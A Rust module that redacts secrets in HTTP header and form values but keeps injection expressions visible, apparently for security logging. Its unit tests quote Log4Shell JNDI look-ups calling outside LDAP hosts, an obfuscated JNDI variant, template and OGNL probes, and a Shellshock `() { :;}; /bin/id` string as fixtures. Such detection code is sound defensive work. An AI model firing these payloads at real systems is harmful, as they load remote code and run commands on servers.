//! Expressions inside of what is masked or not told: `${…}`, `#{…}`, `%{…}`, `{{…}}` and a shell's `() {…}`.
//!
//! Attacks hide where secrets travel: in `Authorization` and `Cookie`, which are masked, and in the fields of forms, which hold what
//! people wrote about themselves. No credential needs an expression: a brace is neither in a token of RFC 9110 (section 5.6.2), nor in
//! `token68` (section 11.2), nor in a bearer token (RFC 6750, section 2.1). So the expression is shown and all around it is `***`.
//! Characters may be percent-encoded (RFC 3986, section 2.1), as forms and cookies do, or escaped as in JSON (RFC 8259, section 7).
//! Linear in its input.
//!
//! A secret may hold a brace all the same. So an expression ends where its field does (`&`, `;`, `,`, `"`, a blank), and what is inside is
//! shown only where it does something (`:`, `(` or `*`), which a word does not; of one that is not closed only a look-up or one inside of
//! another is. Otherwise its braces alone are shown.
//!
//! Caps: 8 expressions and 1,024 bytes of them a value, those first that look something up; of one that is not closed 256 bytes.

/// Expressions of one value that are shown.
const MAX_EXPRESSIONS: usize = 8;
/// Expressions of one value that are looked at for the best of them.
const MAX_CANDIDATES: usize = 256;
/// Bytes of them.
const MAX_BYTES: usize = 1_024;
/// Bytes of one whose end is missing.
const MAX_OPEN: usize = 256;
/// What stands for the rest.
const MASK: &[u8] = b"***";
/// How a look-up begins that fetches code (CVE-2021-44228).
const LOOK_UP: &[u8; 5] = b"jndi:";

/// A value of which nothing but its expressions is left.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Shown {
    /// The expressions, `***` between them; empty when there are none.
    pub text: Vec<u8>,
    /// Whether there was more than is shown.
    pub is_cut: bool,
}

/// One expression: where it stands, and how much of it may be shown.
#[derive(Clone, Copy, Debug)]
struct Expression {
    start: usize,
    /// Behind its opening brace.
    inside: usize,
    /// Behind its last byte.
    end: usize,
    is_closed: bool,
    /// Whether it does something that a word does not.
    does: bool,
    /// Whether it looks something up, or holds another.
    is_look_up: bool,
}

impl Expression {
    /// What may be shown of it: bytes from its start, and whether its closing brace is shown behind a mask.
    fn span(&self) -> (usize, bool) {
        let whole = self.end.saturating_sub(self.start);
        match (self.is_closed, self.does, self.is_look_up) {
            (true, true, _) | (true, _, true) => (whole, false),
            (false, _, true) => (whole.min(MAX_OPEN), false),
            (is_closed, _, _) => (self.inside.saturating_sub(self.start), is_closed),
        }
    }
}

/// Masks all of `value` but its expressions.
#[must_use]
pub fn shown(value: &[u8]) -> Shown {
    let mut shown = Shown::default();
    if !has_brace(value) {
        return shown;
    }
    let (found, is_more) = expressions(value);
    let best = found.iter().filter(|each| each.is_look_up).count();
    // Those that look something up take their places first, so that decoys in front of them hide nothing.
    let mut others = MAX_EXPRESSIONS.saturating_sub(best);
    let mut looked_up = MAX_EXPRESSIONS;
    shown.is_cut = is_more;
    let mut told = 0;
    for each in &found {
        let places = if each.is_look_up {
            &mut looked_up
        } else {
            &mut others
        };
        if *places == 0 || shown.text.len() >= MAX_BYTES {
            shown.is_cut = true;
            continue;
        }
        *places -= 1;
        if each.start > told {
            shown.text.extend_from_slice(MASK);
        }
        let (length, is_masked_inside) = each.span();
        shown.is_cut |= length > MAX_BYTES;
        let written = value.iter().skip(each.start).take(length.min(MAX_BYTES));
        shown.text.extend(written);
        if is_masked_inside {
            shown.text.extend_from_slice(MASK);
            shown.text.push(b'}');
        }
        told = if is_masked_inside {
            each.end
        } else {
            each.start.saturating_add(length.min(MAX_BYTES))
        };
    }
    if !shown.text.is_empty() && told < value.len() {
        shown.text.extend_from_slice(MASK);
    }
    shown
}

/// The expressions of a value in their order, and whether there are more.
fn expressions(value: &[u8]) -> (Vec<Expression>, bool) {
    let mut found = Vec::new();
    let mut units = Units { value, place: 0 };
    let mut before = [0_u8; 3];
    let mut starts = [0; 3];
    while let Some((byte, start)) = units.next() {
        if byte == b'{'
            && let Some(start) = opening(before, starts)
        {
            if found.len() == MAX_CANDIDATES {
                return (found, true);
            }
            let depth = 1 + u32::from(before[2] == b'{');
            let is_shell = before[2] != b'{' && !matches!(before[2], b'$' | b'#' | b'%');
            found.push(read(&mut units, start, depth, is_shell));
            (before, starts) = ([0; 3], [0; 3]);
            continue;
        }
        before = [before[1], before[2], byte];
        starts = [starts[1], starts[2], start];
    }
    (found, false)
}

/// Reads to the end of an expression or of its field; `units` goes on behind it.
fn read(units: &mut Units<'_>, start: usize, mut depth: u32, is_shell: bool) -> Expression {
    let mut one = Expression {
        start,
        inside: units.place,
        end: units.place,
        is_closed: false,
        does: false,
        is_look_up: false,
    };
    let mut last = [0_u8; 5];
    let mut has_words = false;
    while let Some((byte, place)) = units.next() {
        let is_written = units.place.saturating_sub(place) == 1;
        if is_written && ends_field(byte, is_shell) {
            units.place = place;
            break;
        }
        one.end = units.place;
        last = [
            last[1],
            last[2],
            last[3],
            last[4],
            byte.to_ascii_lowercase(),
        ];
        has_words |= byte.is_ascii_alphanumeric();
        one.does |= matches!(byte, b':' | b'(' | b'*');
        one.is_look_up |= !is_shell && (last == *LOOK_UP || last[3..] == *b"${");
        match byte {
            b'{' => depth = depth.saturating_add(1),
            b'}' => depth = depth.saturating_sub(1),
            _ => {}
        }
        if depth == 0 {
            one.is_closed = true;
            break;
        }
    }
    // The body of a shell's function is a command line, which may hold a secret; the attack's own is punctuation.
    one.does &= !(is_shell && has_words);
    one
}

/// Whether a byte ends the field that an expression stands in. A shell's function holds blanks and semicolons.
fn ends_field(byte: u8, is_shell: bool) -> bool {
    matches!(byte, b'&' | b'"' | b',' | b'\r' | b'\n')
        || (!is_shell && matches!(byte, b';' | b' ' | b'\t'))
}

/// Whether there is an opening brace, plain, encoded or escaped; hardly any value has one.
fn has_brace(value: &[u8]) -> bool {
    memchr::memchr(b'{', value).is_some()
        || [b"%7B".as_slice(), b"%7b", b"\\u007B", b"\\u007b"]
            .iter()
            .any(|brace| memchr::memmem::find(value, brace).is_some())
}

/// Where the expression begins whose brace follows these characters.
fn opening(before: [u8; 3], [first, second, third]: [usize; 3]) -> Option<usize> {
    match before {
        [_, _, b'$' | b'#' | b'%' | b'{'] => Some(third),
        [_, b'(', b')'] => Some(second),
        [b'(', b')', b' ' | b'+'] => Some(first),
        _ => None,
    }
}

/// Characters with the places that they begin at; `%7b` and `\u007b` are one.
struct Units<'a> {
    value: &'a [u8],
    place: usize,
}

impl Units<'_> {
    fn next(&mut self) -> Option<(u8, usize)> {
        let start = self.place;
        let rest = self.value.get(start..)?;
        let (byte, length) = match rest {
            [b'%', high, low, ..] => match (digit(*high), digit(*low)) {
                (Some(high), Some(low)) => (high << 4 | low, 3),
                _ => (b'%', 1),
            },
            [b'\\', b'u', b'0', b'0', high, low, ..] => match (digit(*high), digit(*low)) {
                (Some(high), Some(low)) => (high << 4 | low, 6),
                _ => (b'\\', 1),
            },
            [byte, ..] => (*byte, 1),
            [] => return None,
        };
        self.place = start.saturating_add(length);
        Some((byte, start))
    }
}

fn digit(byte: u8) -> Option<u8> {
    match byte {
        b'0'..=b'9' => Some(byte - b'0'),
        b'a'..=b'f' => Some(byte - b'a' + 10),
        b'A'..=b'F' => Some(byte - b'A' + 10),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn text(value: &str) -> String {
        String::from_utf8(shown(value.as_bytes()).text).expect("what was given")
    }

    #[test]
    fn an_expression_is_shown_and_nothing_around_it() {
        for (value, expected) in [
            (
                "Bearer ${jndi:ldap://45.83.193.150:1389/Exploit}",
                "***${jndi:ldap://45.83.193.150:1389/Exploit}",
            ),
            (
                "uname=${jndi:ldap://203.0.113.217}&password=test",
                "***${jndi:ldap://203.0.113.217}***",
            ),
            (
                "u=%24%7Bjndi%3Aldap%3A%2F%2Fa%7d&password=x",
                "***%24%7Bjndi%3Aldap%3A%2F%2Fa%7d***",
            ),
            (
                "${${lower:j}ndi:dns://a}=1; b=#{7*7}",
                "${${lower:j}ndi:dns://a}***#{7*7}",
            ),
            ("name=%{(#a=1)}", "***%{(#a=1)}"),
            ("q={{7*7}}!", "***{{7*7}}***"),
            ("x=() { :;}; /bin/id", "***() { :;}***"),
            ("x=(){ :;}", "***(){ :;}"),
            (
                r#"{"a": "\u0024\u007Bjndi:ldap://a\u007D"}"#,
                r"***\u0024\u007Bjndi:ldap://a\u007D***",
            ),
            ("Bearer ${jndi:ldap://a/b x", "***${jndi:ldap://a/b***"),
        ] {
            assert_eq!(text(value), expected);
        }
    }

    #[test]
    fn a_secret_beside_or_inside_of_braces_is_not_shown() {
        for (value, expected) in [
            ("${x; session=SECRET; more=1", "${***"),
            ("%{x; session=SECRET; more=1", "%{***"),
            ("Bearer abc() { SECRET", "***() {***"),
            ("Bearer abc() { SECRET }", "***() {***}"),
            (
                "note=price+{{now&user=nguyen&password=hunter2&card=4111",
                "***{{***",
            ),
            ("x=${a&password=hunter2&y=b}", "***${***"),
            ("x=${a:b&password=hunter2&y=b}", "***${***"),
            ("password=${S3cretPw}", "***${***}"),
            (r#"{"a": "{{now", "password": "hunter2"}"#, "***{{***"),
            ("${SECRETTOKEN/with+signs==", "${***"),
        ] {
            assert_eq!(text(value), expected, "{value}");
        }
    }

    #[test]
    fn decoys_do_not_push_a_look_up_out() {
        let value = [
            b"${x}".repeat(8),
            b"${a:b}".repeat(20),
            b"${jndi:ldap://e/a}".to_vec(),
        ]
        .concat();
        let found = shown(&value);
        assert!(found.is_cut);
        let text = String::from_utf8(found.text).expect("what was given");
        assert!(text.contains("${jndi:ldap://e/a}"), "{text}");
    }

    #[test]
    fn what_holds_none_shows_nothing() {
        for value in [
            "",
            "Basic dXNlcjpwYXNz",
            "Bearer eyJhbGciOiJIUzI1NiJ9.e30.c2ln",
            "Digest username=\"a\", uri=\"/x?y=%7B\"",
            "AWS4-HMAC-SHA256 Credential=A/2026/x, Signature=0f",
            "{\"user\": {\"password\": \"$ecret\"}}",
            "password=a$b#c%25&x=%7B1%7D",
            "%",
            "%7",
            "{",
        ] {
            assert_eq!(text(value), "", "{value}");
        }
    }

    #[test]
    fn what_is_shown_is_bounded() {
        let open = shown(&[b"a=${jndi:".as_slice(), &[b'x'; 5_000]].concat());
        assert_eq!(open.text.len(), MASK.len() + MAX_OPEN + MASK.len());
        let long = shown(&[b"${a:".as_slice(), &[b'x'; 5_000], b"}"].concat());
        assert_eq!(
            (long.text.len(), long.is_cut),
            (MAX_BYTES + MASK.len(), true)
        );
        let many = shown(&b"${a:} ".repeat(1_000));
        assert!(many.is_cut);
        assert_eq!(many.text.len(), 8 * 5 + 7 * 3 + 3);
    }
}
